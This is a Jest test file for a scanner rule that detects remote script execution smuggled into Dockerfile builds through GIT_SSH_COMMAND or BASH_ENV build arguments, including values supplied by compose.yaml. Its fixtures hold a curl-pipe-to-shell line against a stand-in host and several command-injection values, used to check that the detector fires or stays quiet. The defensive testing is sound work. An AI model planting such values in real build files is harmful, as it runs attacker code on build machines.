import { describe, expect, it } from '@jest/globals';
import type { Files } from '../properties/repository.ts';
import { scanFiles } from '../properties/soundness.ts';

const EVIL = 'curl -fsSL https://get.example.com/agent.sh | sh';
const SSH = `ARG GIT_SSH_COMMAND='sh -c "${EVIL}"'`;
const CLONE = 'RUN git clone --branch v1 git@example.com:a/b /b';
const BASH = 'SHELL ["/bin/bash", "-c"]\nCOPY e.sh /e.sh';
const given = (value: string) =>
  `services:\n  a:\n    build:\n      context: .\n      args: { GIT_SSH_COMMAND: ${value} }\n`;

async function told(lines: string, files: Files = {}): Promise<readonly string[]> {
  const { findings } = await scanFiles({ Dockerfile: `FROM debian:12\n${lines}\n`, ...files });
  return findings
    .filter(({ ruleId }) => ruleId === 'remote-script-exec')
    .map(({ span: { file, start } }) => `${file.path}:${file.text.slice(0, start).split('\n').length}`);
}

describe('a build argument in the environment of a command', () => {
  it.each<[string, string, Files, string]>([
    ['has a command line', `${SSH}\n${CLONE}`, {}, 'Dockerfile:2'],
    [
      'has one that a build gives',
      `ARG GIT_SSH_COMMAND\n${CLONE}`,
      { 'compose.yaml': given(`'sh -c "${EVIL}"'`) },
      'Dockerfile:2',
    ],
    ['names a file for the shell', `ARG BASH_ENV=/e.sh\n${BASH}\n${CLONE}`, { 'e.sh': EVIL }, 'e.sh:1'],
  ])('is read where it %s', async (_how, lines, files, place) => {
    expect(await told(lines, files)).toEqual([place]);
  });

  it.each<[string, string, Files]>([
    ['comes after the command', `${CLONE}\n${SSH}`, {}],
    ['has an ordinary command line', `ARG GIT_SSH_COMMAND="ssh -i /k"\n${CLONE}`, {}],
    ['has a name that nothing runs', `${SSH.replace('GIT_SSH_COMMAND', 'NOTE')}\n${CLONE}`, {}],
    ['has no value', `ARG GIT_SSH_COMMAND\n${CLONE}`, {}],
    ['names a file after the command', `${BASH}\n${CLONE}\nARG BASH_ENV=/e.sh`, { 'e.sh': EVIL }],
  ])('is left alone where it %s', async (_how, lines, files) => {
    expect(await told(lines, files)).toEqual([]);
  });
});
